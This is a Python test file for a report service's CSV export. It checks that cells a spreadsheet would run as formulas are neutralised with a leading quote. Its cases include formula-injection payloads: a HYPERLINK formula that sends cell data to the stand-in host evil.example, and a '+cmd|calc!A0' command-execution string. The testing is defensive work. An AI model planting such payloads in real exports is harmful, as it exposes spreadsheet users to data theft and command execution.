"""Exports are data, never formulas: every text cell a spreadsheet would evaluate is neutralised.

Checked through the endpoint with a CSV reader, on both databases (so through
PostgreSQL's COPY and through the Python writer), and the rule itself in
Python and in SQL on the same values.
"""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest
from sqlalchemy import literal, select, update
from sqlalchemy.ext.asyncio import AsyncSession

from service.core.csvcells import neutralise, neutralise_sql
from service.models import Applicant, Cohort
from tests.reports.fixtures import build_world
from tests.reports.keys import report_key

URL = "/api/v1/reports/completions.csv"
# Written out here, not imported: the test states the contract on its own.
LEADS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CASES = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|calc!A0", "'+cmd|calc!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("=", "'="),
    ("+", "'+"),
    ("-", "'-"),
    ("+92 300 1234567", "'+92 300 1234567"),
    ("1e5", "1e5"),
    # Left alone: numbers, E.164 phones, dates, masked CNICs, ordinary text.
    ("+923001234567", "+923001234567"),
    ("-2", "-2"),
    ("-2.5", "-2.5"),
    ("87.5", "87.5"),
    ("2026-03-04T05:06:07Z", "2026-03-04T05:06:07Z"),
    ("*****-*******-3", "*****-*******-3"),
    ("Ayesha = Khan", "Ayesha = Khan"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "expected"), CASES)
def test_the_rule(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_no_value_stays_no_value() -> None:
    assert neutralise(None) is None


@pytest.mark.postgres_only
async def test_sql_rule_is_the_python_rule(session: AsyncSession) -> None:
    """The COPY export neutralises in SQL: the same answer for every case."""
    values = [value for value, _ in CASES]
    got = [await session.scalar(select(neutralise_sql(literal(v)))) for v in values]
    assert got == [expected for _, expected in CASES]


def assert_inert(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(LEADS) or NUMBER.fullmatch(cell), (column, cell)


@pytest.mark.parametrize(
    ("role", "fields"), [("admin", "full"), ("staff", "standard"), ("reporter", "standard")]
)
async def test_export_writes_no_formula(
    client: httpx.AsyncClient, session: AsyncSession, role: str, fields: str
) -> None:
    world = await build_world(session)
    a, b = world.people["A"], world.people["B"]
    await session.execute(
        update(Applicant)
        .where(Applicant.id == a.id)
        .values(full_name=HYPERLINK, district="+cmd|calc!A0", email="@SUM(1)")
    )
    await session.execute(
        update(Applicant)
        .where(Applicant.id == b.id)
        .values(full_name="\t=1+1", district="\r@x", phone="+923001234567")
    )
    await session.execute(update(Cohort).where(Cohort.id == world.zte_isb.id).values(track="-2+3"))
    await session.execute(
        update(Cohort).where(Cohort.id == world.zte_online.id).values(code="=cohort")
    )
    await session.flush()
    token, _ = await report_key(session, role)
    r = await client.get(
        URL, params={"fields": fields}, headers={"Authorization": f"Bearer {token}"}
    )
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert_inert(rows)
    assert len(rows) == 4
    by_district = {row["district"]: row for row in rows}
    a_rows = [row for row in rows if row["district"] == "'+cmd|calc!A0"]
    assert len(a_rows) == 3
    b_row = by_district["'\r@x"]
    assert b_row["track"] == "'-2+3"
    assert {row["cohort"] for row in a_rows} == {"zte-isb-1", "'=cohort", "ali-online-1"}
    assert {row["track"] for row in a_rows} == {"'-2+3", "5g", "b2b"}
    for row in rows:  # numbers and timestamps untouched
        assert (row["score"], row["attendance"]) == ("80", "90")
        assert row["completed_at"].endswith("Z")
        assert row["completed_at"][0].isdigit()
    if fields == "full":
        assert {row["full_name"] for row in a_rows} == {"'" + HYPERLINK}
        assert {row["email"] for row in a_rows} == {"'@SUM(1)"}
        assert (b_row["full_name"], b_row["phone"]) == ("'\t=1+1", "+923001234567")
